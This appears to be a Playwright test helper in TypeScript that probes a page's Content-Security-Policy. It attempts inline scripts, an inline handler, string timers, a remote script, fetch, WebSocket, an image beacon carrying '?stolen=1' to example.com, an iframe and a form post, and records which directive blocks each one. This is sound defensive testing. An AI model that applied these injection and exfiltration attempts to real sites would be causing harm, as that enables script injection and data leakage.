/** Tries, from inside a page, what its Content-Security-Policy has to stop; tells which directive stopped what. */
import type { Page } from '@playwright/test';

export interface Breaches {
  /** The directive each attempt ran into, in the order tried. */
  readonly stoppedBy: readonly string[];
  /** Scripts that ran although they were not the page's own files. */
  readonly ran: readonly string[];
  readonly fetched: string;
}

/** Every attempt, and the directive that stops it. */
export const STOPPED = [
  'script-src-elem', // <script> with text
  'script-src-attr', // onclick="…"
  'script-src', // a string for setTimeout
  'script-src-elem', // <script src> elsewhere
  'connect-src', // fetch
  'connect-src', // WebSocket
  'img-src', // a picture that would carry data out
  'frame-src', // a frame
  'form-action', // a form
];

export const tryBreaches = (page: Page): Promise<Breaches> =>
  page.evaluate(async () => {
    const stoppedBy: string[] = [];
    const ran: string[] = [];
    Object.assign(window, { ranAnyway: (how: string) => ran.push(how) });
    const stopped = (act: () => unknown) =>
      new Promise<void>((resolve) => {
        const timer = setTimeout(() => {
          stoppedBy.push('nothing');
          resolve();
        }, 2000);
        document.addEventListener(
          'securitypolicyviolation',
          (event) => {
            clearTimeout(timer);
            stoppedBy.push(event.effectiveDirective);
            resolve();
          },
          { once: true },
        );
        act();
      });
    const put = <Name extends keyof HTMLElementTagNameMap>(
      name: Name,
      more: Partial<HTMLElementTagNameMap[Name]>,
    ): HTMLElementTagNameMap[Name] => {
      const element = Object.assign(document.createElement(name), more);
      document.body.append(element);
      return element;
    };
    const elsewhere = 'https://example.com/';
    await stopped(() => put('script', { textContent: 'ranAnyway("inline script")' }));
    await stopped(() => {
      const button = put('button', {});
      button.setAttribute('onclick', 'ranAnyway("inline handler")');
      button.click();
    });
    await stopped(() => setTimeout('ranAnyway("text")', 0));
    await stopped(() => put('script', { src: `${elsewhere}script.js` }));
    let fetched = 'not asked';
    await stopped(() =>
      fetch(elsewhere).then(
        () => {
          fetched = 'an answer';
        },
        (fault: unknown) => {
          fetched = String(fault);
        },
      ),
    );
    await stopped(() => {
      try {
        new WebSocket('wss://example.com/');
      } catch {
        // Refused at once in some versions; the event tells either way.
      }
    });
    await stopped(() => put('img', { src: `${elsewhere}?stolen=1` }));
    await stopped(() => put('iframe', { src: elsewhere }));
    await stopped(() => put('form', { action: elsewhere, method: 'post' }).submit());
    return { stoppedBy, ran, fetched };
  });
